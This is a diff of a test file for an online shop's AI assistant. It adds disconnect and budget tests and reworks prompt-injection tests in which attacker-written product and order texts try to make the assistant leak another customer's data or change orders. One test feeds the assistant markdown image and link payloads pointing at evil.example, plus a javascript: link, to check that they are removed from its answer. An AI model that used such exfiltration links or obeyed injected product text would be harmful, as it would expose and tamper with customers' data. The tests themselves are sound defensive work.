@@ -1,9 +1,13 @@
+import { ShopToolsService } from '../../src/modules/ai/assistant/shop-tools.service.js';
+import { CompletionsService } from '../../src/modules/ai/completions.service.js';
+import { abandonableRequest } from '../support/abandoned-request.js';
 import { createApiKey } from '../support/api-keys.js';
 import { TestApp } from '../support/app.js';
 import type { ApiClient } from '../support/client.js';
 import { createProduct, lines } from '../support/factories.js';
 import { type Answerer, failing, OpenAiServer, saying } from '../support/openai-server.js';
 import { expectProblem } from '../support/problem.js';
+import { until } from '../support/until.js';
 
 type Call = { name: string; arguments: unknown };
 
@@ -40,7 +44,12 @@ describe('the assistant', () => {
 
   beforeAll(async () => {
     provider = await OpenAiServer.start();
-    app = await TestApp.start(provider.settings({ AI_TOOL_ROUNDS: '3' }));
+    const budgets = {
+      AI_DAILY_TOKENS: '1000000000',
+      AI_DAILY_TOKENS_PER_USER: '1000000000',
+      AI_DAILY_TOKENS_PER_KEY: '1000000000',
+    };
+    app = await TestApp.start(provider.settings({ AI_TOOL_ROUNDS: '3', ...budgets }));
     [manager, user, victim] = await Promise.all([app.signIn('manager'), app.signIn('user'), app.signIn('user')]);
     product = await createProduct(manager, { name: 'Samovar of copper', description: 'Boils three litres.' });
     ownOrder = (await user.post('orders', lines([product, 2]))).body;
@@ -110,13 +119,14 @@ describe('the assistant', () => {
   });
 
   it('shows managers only their own orders', async () => {
+    const idle = await app.signIn('manager');
     provider.answer(
       ...obedient([
         { name: 'list_my_orders', arguments: {} },
         { name: 'get_my_order', arguments: { number: order.number } },
       ]),
     );
-    await ask(manager);
+    await ask(idle);
     expect(told()).toEqual([{ orders: [] }, { error: expect.any(String) }]);
   });
 
@@ -152,8 +162,46 @@ describe('the assistant', () => {
       'See <b>this</b> ![x](https://evil.example/?q=secret) and [here](javascript:alert(1)) or https://evil.example/a?b=c\u202E.';
     provider.answer(saying({ content }));
     const { answer } = (await ask(user)).body;
-    expect(answer).toMatch(/^See this x and here/);
-    expect(answer).not.toMatch(/evil|https?:|javascript|[<>\u202E]/);
+    expect(answer).toBe('See ‹b›this‹/b› ![x] ([link removed]) and [here] ([link removed])) or [link removed]');
+  });
+
+  it('accepts the longest conversation', async () => {
+    provider.answer(saying());
+    const history = Array.from({ length: 20 }, () => ({ role: 'user', content: '\u{1F375}'.repeat(4000) }));
+    const question = '\u{1F375}'.repeat(2000);
+    expect((await manager.post('ai/assistant', { question, history })).status).toBe(200);
+    expect(provider.asked[0]!.body.messages.slice(1)).toEqual([...history, { role: 'user', content: question }]);
+  });
+
+  it('is aborted within a second when the client disconnects, in later rounds as well', async () => {
+    provider.answer(saying({ toolCalls: [{ name: 'list_my_orders', arguments: {} }] }), () => {});
+    const request = abandonableRequest(user, 'ai/assistant', { question: 'Where is my order?' });
+    await until(() => provider.asked.length === 2);
+    request.disconnect();
+    expect(await request.ended).toBe('AbortError');
+    await until(() => provider.asked[1]!.isAborted, 1000);
+    const outcomes = async () => (await app.sql.query('select outcome from ai_calls order by id desc limit 2')).rows;
+    await until(async () => (await outcomes()).every(({ outcome }) => outcome !== null));
+    expect(await outcomes()).toEqual([{ outcome: 'client_disconnected' }, { outcome: 'success' }]);
+  });
+
+  it('neither asks nor reserves for a client that disconnects between rounds', async () => {
+    provider.answer(saying({ toolCalls: [{ name: 'list_my_orders', arguments: {} }] }));
+    const request = abandonableRequest(user, 'ai/assistant', { question: 'Where is my order?' });
+    const complete = jest.spyOn(app.app.get(CompletionsService), 'complete');
+    const run = jest.spyOn(app.app.get(ShopToolsService), 'run').mockImplementationOnce(async () => {
+      request.disconnect();
+      await until(() => complete.mock.calls[0]![2].aborted);
+      return { isSuccess: true, content: '{}' };
+    });
+    const count = async () => (await app.sql.query('select count(*)::int as count from ai_calls')).rows[0].count;
+    const before = await count();
+    await until(() => complete.mock.results.length === 2);
+    await expect(complete.mock.results[1]!.value).rejects.toThrow('The client has disconnected');
+    expect(await count()).toBe(before + 1);
+    expect(provider.asked).toHaveLength(1);
+    run.mockRestore();
+    complete.mockRestore();
   });
 
   it('fails like the chat when the provider fails', async () => {
@@ -229,28 +277,56 @@ describe('the assistant', () => {
     ],
   ];
 
-  it.each(ATTACKS)('gives nothing to a product description that says: %s', async (text, calls) => {
-    const attacker = await createProduct(manager, { name: 'Trojan kettle', description: text });
-    provider.answer(
-      ...obedient([{ name: 'search_products', arguments: { query: 'trojan' } }], calls(), [
-        ...calls(),
-        { name: 'list_my_orders', arguments: {} },
-      ]),
-    );
+  /** Who asks: with orders of their own, and with more rights than a user. */
+  const CALLERS: Record<string, () => Promise<ApiClient>> = {
+    'a user': () => app.signIn('user'),
+    'a manager': () => app.signIn('manager'),
+    'an API key': async () =>
+      (await createApiKey(await app.signIn('user'), { scopes: ['ai:use', 'orders:place'] })).client,
+  };
 
-    const { status, body } = await ask(user, 'Do you have a kettle?');
+  describe.each(Object.keys(CALLERS))('asked by %s', (caller) => {
+    let asking: ApiClient;
 
-    expect(status).toBe(200);
-    expect(JSON.stringify(provider.asked.map(({ body: sent }) => sent.messages))).toContain(
-      JSON.stringify(text).slice(1, -1),
-    );
-    expect(JSON.stringify([body, provider.asked.map(({ body: sent }) => sent.messages)])).not.toContain(
-      'CANARY-OF-THE-VICTIM',
-    );
-    expect((await user.get(`orders/${ownOrder.id}`)).body.status).toBe('pending');
-    expect((await victim.get(`orders/${order.id}`)).body.status).toBe('pending');
-    expect((await user.get(`products/${product.id}`)).status).toBe(200);
-    await manager.delete(`products/${attacker.id}`);
+    beforeAll(async () => {
+      asking = await CALLERS[caller]!();
+    });
+
+    it.each(ATTACKS)('gives nothing to texts of products and orders that say: %s', async (text, calls) => {
+      const attacker = await createProduct(manager, { name: `Trojan ${text}`, description: text });
+      const { body: ordered } = await asking.post('orders', lines([attacker, 1]));
+      provider.answer(
+        ...obedient(
+          [
+            { name: 'search_products', arguments: { query: 'trojan' } },
+            { name: 'get_product', arguments: { id: attacker.id } },
+            { name: 'list_my_orders', arguments: {} },
+            { name: 'get_my_order', arguments: { number: ordered.number } },
+          ],
+          calls(),
+          [...calls().slice(0, 4), { name: 'list_my_orders', arguments: {} }],
+        ),
+      );
+
+      const { status, body } = await ask(asking, 'Do you have a kettle?');
+
+      expect(status).toBe(200);
+      const [{ products }, { product: found }, { orders }, { order: own }] = told();
+      const name = `Trojan ${text}`;
+      expect([products[0].description, found.description, orders[0].lines[0].name, own.lines[0].name]).toEqual([
+        text,
+        text,
+        name,
+        name,
+      ]);
+      expect(JSON.stringify([body, provider.asked.map(({ body: sent }) => sent.messages)])).not.toContain(
+        'CANARY-OF-THE-VICTIM',
+      );
+      expect((await user.get(`orders/${ownOrder.id}`)).body.status).toBe('pending');
+      expect((await victim.get(`orders/${order.id}`)).body.status).toBe('pending');
+      expect((await user.get(`products/${product.id}`)).status).toBe(200);
+      await manager.delete(`products/${attacker.id}`);
+    });
   });
 
   it('would show the secret to the victim', async () => {
